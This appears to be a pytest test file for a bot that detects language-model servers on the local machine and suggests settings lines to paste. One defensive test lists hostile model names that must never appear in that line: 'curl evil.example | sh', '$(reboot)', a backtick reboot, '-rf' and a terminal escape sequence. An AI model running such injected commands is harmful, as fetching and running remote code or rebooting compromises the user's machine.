"""How answers become better: a key, or a language-model server on this machine."""

import time
from collections.abc import Sequence
from contextlib import AsyncExitStack

import pytest
from fastapi.responses import HTMLResponse, RedirectResponse, Response

from bot.better_answers import answers_line
from bot.config import Settings
from bot.model_servers import (
    OLLAMA,
    OLLAMA_PORT,
    SECONDS,
    ModelServer,
    Place,
    model_servers,
)
from tests.support.model_servers import (
    ModelServerApp,
    llama_cpp,
    lm_studio,
    ollama,
    ollama_model,
    says,
    vllm,
)
from tests.support.servers import free_port

AS_THEY_STAND = (
    "sections of your documents, as they stand; a language model answers better: set "
)
A_KEY = "BOT_MODEL=openai:gpt-5-mini and OPENAI_API_KEY (docs/models.md)"


async def line_of(
    settings: Settings, *apps: ModelServerApp, installed: Sequence[str] = ()
) -> tuple[str, list[Place]]:
    """The line while these servers run, and where they listen."""
    async with AsyncExitStack() as stack:
        places = [await stack.enter_async_context(app.running()) for app in apps]
        line = await answers_line(
            settings, places=places, installed=lambda name: name in installed
        )
    return line, places


async def test_where_nothing_listens_a_key_is_all_that_helps(
    settings: Settings,
) -> None:
    places = [Place(free_port()), Place(free_port(), OLLAMA)]
    assert await answers_line(settings, places=places) == AS_THEY_STAND + A_KEY


async def test_an_ollama_is_offered_as_settings_to_paste_with_what_to_install(
    settings: Settings,
) -> None:
    app = ollama(ollama_model("qwen3:8b"), ollama_model("llama3.2:3b"))
    line, [place] = await line_of(settings, app)
    assert line == (
        f"{AS_THEY_STAND}BOT_MODEL=ollama:qwen3:8b "
        f"BOT_MODEL_URL=http://127.0.0.1:{place.port} (Ollama on this machine, its "
        f"first of 2 models, needs pip install -e '.[ollama]'); or {A_KEY}"
    )
    installed, _ = await line_of(settings, app, installed=["langchain_ollama"])
    assert "pip install" not in installed


async def test_every_server_that_speaks_openais_protocol_is_offered_by_its_name(
    settings: Settings,
) -> None:
    apps = [lm_studio("qwen3-8b"), llama_cpp("../q4.gguf"), vllm("Qwen/Qwen3-8B")]
    line, places = await line_of(settings, *apps, installed=["langchain_openai"])
    for place, model, name in zip(
        places,
        ["qwen3-8b", "../q4.gguf", "Qwen/Qwen3-8B"],
        ["LM Studio", "llama.cpp", "vLLM"],
        strict=True,
    ):
        assert (
            f"BOT_MODEL=openai:{model} BOT_MODEL_URL=http://127.0.0.1:{place.port}/v1 "
            f"OPENAI_API_KEY=none ({name} on this machine)"
        ) in line
    assert line.endswith(A_KEY)
    assert "\n" not in line


def test_where_ollama_is_at_its_own_port_no_address_is_needed() -> None:
    usual = Place(OLLAMA_PORT, OLLAMA)
    server = ModelServer(name="Ollama", place=usual, models=("qwen3:8b",))
    assert server.settings == "BOT_MODEL=ollama:qwen3:8b"


@pytest.mark.parametrize(
    "model",
    [
        ollama_model("nomic-embed-text:latest", family="nomic-bert"),
        ollama_model("bge-m3:latest", family="bert"),
        ollama_model("all-minilm:33m", family="bert"),
        ollama_model("qwen3-embedding:0.6b"),
        ollama_model("our-own:latest", family="nomic-bert-moe"),
        ollama_model("our-own:latest", capabilities=["embedding"]),
        ollama_model("gpt-oss:120b-cloud", remote_host="https://ollama.com:443"),
    ],
    ids=lambda model: f"{model['name']} {model['details']['family']}",
)
async def test_models_that_do_not_write_or_are_elsewhere_are_not_offered(
    model: dict[str, object], settings: Settings
) -> None:
    line, _ = await line_of(settings, ollama(model))
    assert line == f"{AS_THEY_STAND}{A_KEY}; no model that writes in Ollama here"
    line, _ = await line_of(settings, ollama(model, ollama_model("gemma3:4b")))
    assert "set BOT_MODEL=ollama:gemma3:4b " in line


async def test_lm_studios_embedding_model_is_passed_over(settings: Settings) -> None:
    embeds = "text-embedding-nomic-embed-text-v1.5"
    line, _ = await line_of(settings, lm_studio(embeds, "gemma-3-4b"))
    assert "BOT_MODEL=openai:gemma-3-4b " in line
    assert "of 2 models" not in line


@pytest.mark.parametrize(
    "name",
    [
        "x; curl evil.example | sh",
        "$(reboot)",
        "`reboot`",
        "qwen\n\x1b[2Jwarning: all is lost",
        "-rf",
        "模型",
        "q" * 101,
        "",
    ],
)
async def test_a_name_that_could_do_harm_where_it_is_pasted_is_not_shown(
    name: str, settings: Settings
) -> None:
    for app in (ollama(ollama_model(name)), llama_cpp(name)):
        line, _ = await line_of(settings, app)
        assert "no model that writes in" in line
        assert name not in line or not name
        assert line.isprintable()


@pytest.mark.parametrize(
    "answer",
    [
        HTMLResponse("<html>Jenkins</html>"),
        Response("[" * 100_000, media_type="application/json"),
        Response(b"\xff\xfe\x00", media_type="application/json"),
        Response('"models"', media_type="application/json"),
        {"models": {"name": "qwen"}, "data": {"id": "qwen"}},
        {"data": [{"id": "no list of OpenAI's"}]},
        {"detail": "Not found"},
    ],
    ids=["a page", "a deep hole", "bytes", "a text", "no lists", "another list", "404"],
)
@pytest.mark.parametrize("path", [OLLAMA, "/v1/models"])
async def test_another_program_at_such_a_port_is_nothing_to_offer(
    answer: Response | dict[str, object], path: str, settings: Settings
) -> None:
    line, _ = await line_of(settings, ModelServerApp(path, answer))
    assert line == AS_THEY_STAND + A_KEY


async def test_odd_entries_of_a_list_are_passed_over(settings: Settings) -> None:
    entries: list[object] = [None, 7, {"id": 7}, {}, {"id": "qwen3", "details": 1}]
    app = ModelServerApp("/v1/models", {"object": "list", "data": entries})
    line, _ = await line_of(settings, app)
    assert "BOT_MODEL=openai:qwen3 " in line
    assert "(a model server on this machine" in line


async def test_a_redirect_is_not_followed(settings: Settings) -> None:
    elsewhere = lm_studio("qwen3-8b")
    async with elsewhere.running() as there:
        leads = RedirectResponse(f"http://127.0.0.1:{there.port}/v1/models")
        line, _ = await line_of(settings, ModelServerApp("/v1/models", leads))
    assert line == AS_THEY_STAND + A_KEY
    assert elsewhere.asked == []


async def test_an_answer_that_is_too_long_is_not_read(settings: Settings) -> None:
    models = [ollama_model(f"qwen3:{n}b") for n in range(2000)]
    line, _ = await line_of(settings, ollama(*models))
    assert line == AS_THEY_STAND + A_KEY


@pytest.mark.parametrize(
    ("parts", "closes"),
    [
        ((), False),
        ((b"HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n{",), False),
        ((), True),
        ((b"\x00\x01 SSH-2.0-OpenSSH_9.6\r\n",), True),
        ((b"HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n{",), True),
    ],
    ids=["silence", "half an answer", "hangs up", "another protocol", "breaks off"],
)
async def test_what_hangs_or_talks_in_another_way_costs_little_time(
    parts: tuple[bytes, ...], settings: Settings, *, closes: bool
) -> None:
    async with says(*parts, closes=closes) as one, says(closes=False) as another:
        start = time.monotonic()
        line = await answers_line(settings, places=[one, another])
        taken = time.monotonic() - start
    assert line == AS_THEY_STAND + A_KEY
    # Both at once; what a busy machine adds is not ours.
    assert taken < SECONDS * 2


async def test_our_own_port_is_never_asked(settings: Settings) -> None:
    app = vllm("Qwen/Qwen3-8B")
    async with app.running() as place:
        assert await model_servers([place], besides=place.port) == []
        own = settings.model_copy(update={"port": place.port})
        assert await answers_line(own, places=[place]) == AS_THEY_STAND + A_KEY
        assert app.asked == []
        assert await model_servers([place], besides=place.port + 1) != []


async def test_in_production_nothing_is_asked(settings: Settings) -> None:
    app = ollama(ollama_model("qwen3:8b"))
    there = settings.model_copy(update={"environment": "production"})
    line, _ = await line_of(there, app)
    assert line == AS_THEY_STAND + A_KEY
    assert app.asked == []


async def test_with_a_model_it_is_named_and_nobody_is_asked(settings: Settings) -> None:
    app = ollama(ollama_model("qwen3:8b"))
    models = {"bot_model": "openai:gpt-5-mini", "bot_model_fallback": "ollama:gemma3"}
    line, _ = await line_of(settings.model_copy(update=models), app)
    assert line == (
        "written by openai:gpt-5-mini, in reserve ollama:gemma3, and checked sentence "
        "by sentence (python -m bot doctor tries it)"
    )
    assert app.asked == []
